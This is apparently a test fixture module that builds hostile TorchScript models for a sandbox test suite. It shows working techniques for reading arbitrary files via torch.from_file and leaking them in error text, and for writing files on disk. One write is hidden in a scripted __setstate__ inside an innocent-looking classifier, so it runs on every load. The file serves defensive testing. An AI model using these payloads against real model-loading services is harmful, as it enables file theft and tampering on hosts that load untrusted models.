"""Hostile TorchScript models for test_sandbox.py, as an attacker would upload them (issue 16).

A TorchScript file is code: `torch.from_file` maps any path the process can open, for reading or
(shared=True) for writing, and a scripted `__setstate__` runs on every `torch.jit.load`.
"""

from __future__ import annotations

from pathlib import Path

import torch


class Exfiltrate(torch.nn.Module):
    """forward reads the first `size` bytes of `path` and raises them as its error text."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path, self.size = path, size

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        data = torch.from_file(self.path, False, self.size, dtype=torch.uint8)
        text = ""
        for i in range(self.size):
            text += chr(int(data[i]))
        if self.size > 0:
            raise RuntimeError("EXFIL[" + text + "]")
        return x


class PlantInForward(torch.nn.Module):
    """forward creates `path` and fills it with 'X' (a shared mapping writes through to the file)."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.fc = torch.nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        planted = torch.from_file(self.path, True, 16, dtype=torch.uint8).fill_(88)
        # Used, or TorchScript's dead-code pass drops the call.
        return self.fc(x.flatten(1)) + planted[0].float() * 0


class _Trigger(torch.nn.Module):
    """Holds only `path`; its __setstate__, run by torch.jit.load, creates the file."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        planted = torch.from_file(state[0], True, 16, dtype=torch.uint8).fill_(88)
        # Kept in the state, or TorchScript's dead-code pass drops the call.
        self.path, self.training = state[0], state[1] and bool(planted[0] == 88)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


class PlantOnLoad(torch.nn.Module):
    """A plain, trainable (and quantisable) classifier with a submodule that writes `path` on every load."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.trigger = _Trigger(path)
        self.fc = torch.nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(self.trigger(x).flatten(1))


def save(module: torch.nn.Module, path: Path) -> Path:
    torch.jit.script(module).save(str(path))
    return path
